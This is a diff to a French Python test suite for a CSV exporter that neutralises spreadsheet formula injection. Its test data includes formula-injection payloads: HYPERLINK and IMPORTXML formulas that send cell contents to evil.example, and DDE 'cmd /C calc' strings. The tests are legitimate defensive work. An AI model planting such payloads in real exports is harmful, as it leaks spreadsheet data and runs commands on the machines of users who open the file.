@@ -4,6 +4,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 
 import jsonschema
 import pytest
@@ -80,14 +81,62 @@ def test_le_csv_neutralise_les_formules(fichiers_complets):
         ("+33465710000", "'+33465710000"),
         ("-2", "'-2"),
         ("@cmd", "'@cmd"),
-        ("\t=1", "'\t=1"),
+        ("\t=1", "'\t'=1"),  # a paste splits on the tab: both pieces are text
         ("Ain", "Ain"),
         ("", ""),
         ("a=b", "a=b"),
+        # After a separator: French Excel splits a line on ";" (the security report's case), others on ","…
+        ('Plateforme;=HYPERLINK("https://evil.example";"clic")', 'Plateforme;\'=HYPERLINK("https://evil.example";"clic")'),
+        ("Plateforme; =1+1", "Plateforme; '=1+1"),
+        ("Plateforme,+33 1 99 00 00 00", "Plateforme,'+33 1 99 00 00 00"),
+        ("Plateforme\t-2", "Plateforme\t'-2"),
+        ("Plateforme\n@SOMME(A1)", "Plateforme\n'@SOMME(A1)"),
+        ("Plateforme\r\n=1", "Plateforme\r\n'=1"),
+        ('Plateforme; "=1"', 'Plateforme; "\'=1"'),
+        ("=1;=2", "'=1;'=2"),
+        ("Rendez-vous lundi, mardi-matin ; 9h-12h", "Rendez-vous lundi, mardi-matin ; 9h-12h"),
     ],
 )
 def test_neutraliser_formule(valeur, attendu):
     assert exports.neutraliser_formule(valeur) == attendu
+    assert exports.retablir_formule(attendu.removeprefix("'") if valeur[:1] in exports.DEBUTS_DE_FORMULE else attendu) == valeur
+
+
+HOSTILES = {
+    "remarques": 'Plateforme;=HYPERLINK("https://evil.example/?"&A1;"Cliquez ici")',
+    "nom": "Plateforme,+cmd|' /C calc'!A0",
+    "adresse": "1 rue de l'Exemple;\t@SOMME(1+1)*cmd|' /C calc'!A0",
+    "commune": 'Brest; "=1+1"',
+    "delai_premier_rendez_vous": "un mois\n-2+3",
+    "prescriptions": "Par e-mail,   =IMPORTXML(CONCAT(\"https://evil.example/?v=\", A2); \"//a\")",
+}
+
+
+def test_aucune_formule_ne_commence_apres_un_separateur_meme_decoupe_a_l_aveugle(plateformes_completes):
+    """Cut the CSV at every ; , tab and line break, quotes ignored (the worst a spreadsheet can do):
+    no piece starts a formula."""
+    ain = plateformes_completes[0].model_copy(update=HOSTILES)
+    texte = exports.plateformes_csv([ain, *plateformes_completes[1:]]).removeprefix(exports.BOM)
+    for morceau in re.split(r"[;,\t\r\n]", texte):
+        assert not morceau.lstrip(' \t"').startswith(("=", "+", "-", "@")), morceau
+
+
+def test_le_csv_rend_le_texte_des_valeurs_hostiles_apres_l_apostrophe(plateformes_completes):
+    ain = plateformes_completes[0].model_copy(update=HOSTILES)
+    [ligne] = lignes_csv(exports.plateformes_csv([ain]))
+    for champ, valeur in HOSTILES.items():
+        assert exports.retablir_formule(ligne[champ]) == valeur
+
+
+def test_le_csv_met_chaque_champ_entre_guillemets(exports_a_tester):
+    texte = exports_a_tester["donnees/plateformes.csv"].removeprefix(exports.BOM)
+    lignes = texte.split("\r\n")
+    assert lignes[-1] == ""
+    for brute, cellules in zip(lignes[:-1], csv.reader(io.StringIO(texte, newline="")), strict=True):
+        tampon = io.StringIO()
+        csv.writer(tampon, quoting=csv.QUOTE_ALL, lineterminator="").writerow(cellules)
+        assert brute == tampon.getvalue()
+    assert lignes[0].startswith('"departement","departement_nom","region",')
 
 
 # --- data·inclusion ---------------------------------------------------------------------------------
